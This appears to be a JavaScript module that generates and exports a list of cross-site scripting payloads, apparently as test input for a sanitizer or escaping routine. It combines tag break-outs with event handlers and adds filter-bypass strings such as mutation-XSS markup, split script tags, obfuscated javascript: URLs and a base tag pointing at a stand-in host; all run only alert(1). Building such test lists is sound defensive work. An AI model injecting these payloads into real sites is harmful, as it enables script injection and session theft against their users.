const tags = [
  "script",
  "img src=x",
  "svg",
  "iframe",
  "body",
  "details open",
  "video",
  "a href=javascript:alert(1)",
];
const handlers = [
  "onerror=alert(1)",
  "onload=alert(1)",
  "onfocus=alert(1) autofocus",
  "ontoggle=alert(1)",
  "onclick=alert(1)",
];
const openings = ["", '">', "'>", "</script>", "</style>", "-->", "</title>"];
const created = openings.flatMap((opening) =>
  tags.flatMap((tag) => handlers.map((handler) => `${opening}<${tag} ${handler}>x`)),
);

// Such as need no angle bracket, or another parser than one would think.
const others = [
  "javascript:alert(1)",
  " java\tscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "</textarea><script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "<!--><script>alert(1)</script>-->",
  "<template><script>alert(1)</script></template>",
  "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<style>@import 'javascript:alert(1)'</style>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
];

/** Texts that run a script wherever they come out as markup; the most different ones first. */
export const scriptPayloads: readonly string[] = [...others, ...created];
